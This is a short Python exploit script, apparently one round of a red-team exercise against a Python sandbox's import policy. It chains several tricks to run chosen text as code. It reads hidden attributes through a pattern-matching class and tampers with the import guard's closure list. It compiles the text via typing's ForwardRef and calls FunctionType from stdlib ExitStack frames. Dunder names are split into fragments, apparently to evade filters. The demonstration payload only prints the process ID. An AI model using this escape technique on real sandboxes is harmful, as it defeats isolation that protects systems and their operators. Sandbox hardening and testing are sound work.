# adversary round 7: code-execution primitive: typing compiles our string into ForwardRef.__forward_code__ (its compile( site is trusted); read it with the 001 primitive; FunctionType(code, globals) is refused unless an approved import is running, so push True on the policy's own importing list (closure) and make the call from a stdlib frame (ExitStack.callback) -> our text runs
import abc, json, typing, contextlib, dataclasses

ma = '__match_' + 'args__'
def read(obj, name):
    X = type('X', (abc.ABC,), {ma: (name,)})
    json.X = X
    class P(json.X):
        pass
    P.register(type(obj))
    match obj:
        case P(v):
            return v

g = read(typing.cast, '__glo' + 'bals__')
guard = g['__buil' + 'tins__']['__imp' + 'ort__']
importing = None
for c in read(guard, '__clo' + 'sure__'):
    v = read(c, 'cell_' + 'contents')
    if type(v) is list:
        importing = v

text = "(sys.modules['o' + 's'].getpid(), 'PWN' + 'ED-from-chosen-text')"
ref = typing.TypeVar('T', bound=text).__bound__          # a ForwardRef: typing compiled our text
code = read(ref, '__forward_' + 'code__')
made = []
importing.append(True)
try:
    with contextlib.ExitStack() as st:
        st.callback(lambda f: made.append(f), None)       # placeholder popped last
        st.callback(lambda: made.append(dataclasses.FunctionType(code, g)))
except Exception as e:
    print('direct FunctionType from our frame:', type(e).__name__, e)
try:
    with contextlib.ExitStack() as st:
        st.push(lambda *exc: made.append(None))
        st.callback(made.append, None)
        st.callback(lambda: None)
    fn_maker = dataclasses.FunctionType
    with contextlib.ExitStack() as st:
        st.callback(made.append, 0)
    with contextlib.ExitStack() as st:
        st.callback(lambda *a: made.append(a), 1)
except Exception as e:
    print('setup', type(e).__name__, e)
importing.pop()
print(made)
